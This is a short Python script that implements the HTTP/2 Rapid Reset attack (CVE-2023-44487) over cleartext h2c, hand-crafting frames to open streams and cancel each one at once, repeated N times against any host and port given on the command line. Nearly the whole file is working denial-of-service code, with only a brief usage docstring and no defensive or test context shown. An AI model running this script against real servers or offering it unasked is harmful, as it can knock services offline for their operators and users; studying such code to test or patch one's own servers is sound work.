#!/usr/bin/env python3
"""An HTTP/2 rapid-reset burst (CVE-2023-44487) over h2c: a client that opens
streams and cancels each at once. Usage: h2_rapid_reset.py HOST PORT AUTHORITY N.
Prints how many streams it opened before the server closed the connection
(or N). Frames are written by hand so no h2 library is needed."""
import socket, struct, sys

host, port, authority, n = sys.argv[1], int(sys.argv[2]), sys.argv[3].encode(), int(sys.argv[4])

def frame(ftype, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack(">I", stream) + payload

# HPACK: :method GET (2), :scheme http (6), :path / (4), :authority literal (name index 1).
headers = b"\x82\x86\x84" + b"\x41" + bytes([len(authority)]) + authority
s = socket.create_connection((host, port), timeout=10)
s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))
opened = 0
try:
    for i in range(n):
        sid = 2 * i + 1
        # END_HEADERS|END_STREAM, then RST_STREAM CANCEL (8).
        s.sendall(frame(1, 0x5, sid, headers) + frame(3, 0, sid, struct.pack(">I", 8)))
        opened += 1
except OSError:
    pass
print(opened)
